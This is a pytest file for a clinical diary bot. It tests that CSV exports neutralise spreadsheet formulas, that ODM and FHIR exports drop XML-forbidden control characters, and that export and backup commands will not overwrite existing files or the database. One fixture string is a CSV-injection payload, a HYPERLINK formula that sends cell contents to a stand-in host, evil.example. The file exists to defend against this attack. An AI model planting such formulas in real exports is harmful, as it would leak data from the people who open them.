"""Exports cannot be turned against their readers (issue 11, section 5).

- CSV cells a spreadsheet would run as a formula get a leading `'`; plain numbers stay numbers.
- Characters XML 1.0 forbids are refused when a patient types them (a clear message in their
  language, nothing stored) and stripped from every export (data stored before the check), so
  the ODM file stays valid.
- `export --out` and `backup --out` refuse a file that exists unless `--force`, and never
  write over the database, its WAL or its key file.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import shutil
import sqlite3
from pathlib import Path

import pytest
from lxml import etree

from bot.cli import main
from bot.dataout import exports
from bot.domain.study import Study
from bot.domain.textsafety import csv_cell, has_xml_forbidden, strip_xml_forbidden
from bot.i18n import t
from tests.dataout_seed import SeedFile, seed_file
from tests.escalation_support import QUIET, day0_patient
from tests.harness import Harness, fill_diary
from tests.test_dataout_exports import odm_schema

NASTY = '=HYPERLINK("http://evil.example/?"&A1,"click")\x00\x07\x1b rash'
CLEAN = '\'=HYPERLINK("http://evil.example/?"&A1,"click") rash'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+41 79 000", "'+41 79 000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # study day 3 before Day 0: a number, left a number
        ("-0.5", "-0.5"),
        ("38.5", "38.5"),
        ("头晕 = dizzy", "头晕 = dizzy"),
        ("a\x00b\x07c\x1bd", "abcd"),
        (-3, -3),
        ("", ""),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_xml_forbidden_characters() -> None:
    for bad in ("\x00", "\x07", "\x1b", "\x0b", "\x0c", "\ufffe", "\ud800"):
        assert has_xml_forbidden(f"a{bad}b") and strip_xml_forbidden(f"a{bad}b") == "ab"
    for good in ("\t", "\n", "\r", "头晕", "😀", "\u2028"):
        assert not has_xml_forbidden(f"a{good}b")


@pytest.fixture(scope="module")
def nasty_db(tmp_path_factory: pytest.TempPathFactory, study: Study) -> tuple[Path, SeedFile]:
    """A seeded database whose free text (answer and audit trail) holds a formula and control
    characters, as data stored before input refused them would."""
    seeded = seed_file(tmp_path_factory.mktemp("nasty-seed"), study)
    path = seeded.path.with_name("nasty.sqlite3")
    shutil.copy(seeded.path, path)
    with sqlite3.connect(path) as conn:
        conn.execute("DROP TRIGGER audit_no_update")
        assert conn.execute(
            "UPDATE answers SET value = ? WHERE item = 'OTHER_TEXT'", (NASTY,)
        ).rowcount
        assert conn.execute(
            "UPDATE audit SET new_value = ? WHERE entity LIKE '%/OTHER_TEXT'", (NASTY,)
        ).rowcount
    return path, seeded


def run_export(path: Path, seeded: SeedFile, study: Study, fmt: str) -> dict[str, bytes]:
    return asyncio.run(exports.run(path, study, seeded.now, fmt)).files


def test_csv_defuses_formulas_and_keeps_negative_study_days_numbers(
    nasty_db: tuple[Path, SeedFile], study: Study
) -> None:
    files = run_export(*nasty_db, study, "csv")
    long = list(csv.DictReader(io.StringIO(files["NCT06438809_long.csv"].decode("utf-8-sig"))))
    texts = [r for r in long if r["item"] == "OTHER_TEXT"]
    assert texts and all(r["value_code"] == r["value"] == CLEAN for r in texts)
    assert any(r["study_day"] == "-1" for r in long)  # baseline days stay plain numbers
    wide_text = files["NCT06438809_wide.csv"].decode("utf-8-sig")
    assert "\x00" not in wide_text and "\x1b" not in wide_text
    wide = list(csv.DictReader(io.StringIO(wide_text)))
    assert CLEAN in [r["OTHER_TEXT"] for r in wide]


def test_odm_and_fhir_stay_valid_without_the_forbidden_characters(
    nasty_db: tuple[Path, SeedFile], study: Study
) -> None:
    (odm,) = run_export(*nasty_db, study, "odm").values()
    doc = etree.fromstring(odm)  # one NUL would make this fail
    schema = odm_schema()
    assert schema.validate(doc), schema.error_log
    values = [e.get("Value") for e in doc.iter("{http://www.cdisc.org/ns/odm/v1.3}ItemData")]
    assert CLEAN[1:] in values
    (fhir,) = run_export(*nasty_db, study, "fhir").values()
    assert "\\u0000" not in fhir.decode() and "\\u001b" not in fhir.decode()
    assert CLEAN[1:] in strings(json.loads(fhir))


def strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


@pytest.mark.parametrize("lang", ["en", "zh_Hans"])
async def test_control_characters_are_refused_when_typed(harness: Harness, lang: str) -> None:
    h = harness
    p = await day0_patient(h, lang=lang)
    # Up to the free-text question (fill_diary stops there: no answer given for it).
    with pytest.raises(AssertionError, match="asks OTHER_TEXT"):
        await fill_diary(p, {**QUIET, "OTHER": "Y"})
    await p.send("rash\x07 on\x00 my arm\x1b")
    assert p.last_text == t(lang)(
        "Your message contains invisible control characters that cannot be saved."
        " Please type it again as plain text."
    )
    assert await h.rows("SELECT * FROM answers WHERE item = 'OTHER_TEXT'") == []
    await p.send("rash on my arm")
    [row] = await h.rows("SELECT value FROM answers WHERE item = 'OTHER_TEXT'")
    assert row["value"] == "rash on my arm"


# ------------------------------------------------------------------ --out refuses, --force


@pytest.fixture
def cli_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, study: Study) -> Path:
    seeded = seed_file(tmp_path, study)
    monkeypatch.setenv("DIARYBOT_DB", str(seeded.path))
    monkeypatch.delenv("DIARYBOT_STUDY", raising=False)
    monkeypatch.chdir(tmp_path)
    return seeded.path


def exports_audited(db: Path) -> int:
    with sqlite3.connect(db) as conn:
        return conn.execute(
            "SELECT COUNT(*) FROM audit WHERE action IN ('export', 'backup')"
        ).fetchone()[0]


def test_export_and_backup_refuse_an_existing_file_unless_forced(
    cli_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "study.xml"
    out.write_text("keep me")
    assert main(["export", "--format", "odm", "--out", str(out)]) == 2
    assert "already exists (use --force to replace it)" in capsys.readouterr().err
    assert out.read_text() == "keep me"
    assert main(["export", "--format", "odm", "--out", str(out), "--force"]) == 0
    assert out.read_bytes().startswith(b"<?xml")
    # CSV into a folder: one existing file is enough to refuse all three.
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "NCT06438809_wide.csv").write_text("keep me")
    assert main(["export", "--format", "csv", "--out", str(folder)]) == 2
    assert sorted(p.name for p in folder.iterdir()) == ["NCT06438809_wide.csv"]
    backup = tmp_path / "b.sqlite3"
    backup.write_text("keep me")
    assert main(["backup", "--out", str(backup)]) == 2
    assert "already exists" in capsys.readouterr().err
    assert backup.read_text() == "keep me"
    before = exports_audited(cli_db)
    assert main(["backup", "--out", str(backup), "--force"]) == 0
    assert backup.read_bytes().startswith(b"SQLite format 3")
    assert exports_audited(cli_db) == before + 1


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", ".key"])
@pytest.mark.parametrize("command", ["export", "backup"])
def test_never_the_database_its_wal_or_its_key_even_forced(
    cli_db: Path, capsys: pytest.CaptureFixture[str], suffix: str, command: str
) -> None:
    target = Path(f"{cli_db}{suffix}")
    before = target.read_bytes() if target.exists() else None
    args = ["export", "--format", "fhir"] if command == "export" else ["backup"]
    assert main([*args, "--out", str(target), "--force"]) == 2
    assert "is the database or one of its files" in capsys.readouterr().err
    assert (target.read_bytes() if target.exists() else None) == before
    # The same file through another name (a relative path) is the same file.
    assert main([*args, "--out", f"./{target.name}", "--force"]) == 2
    assert main(["audit", "verify"]) == 0
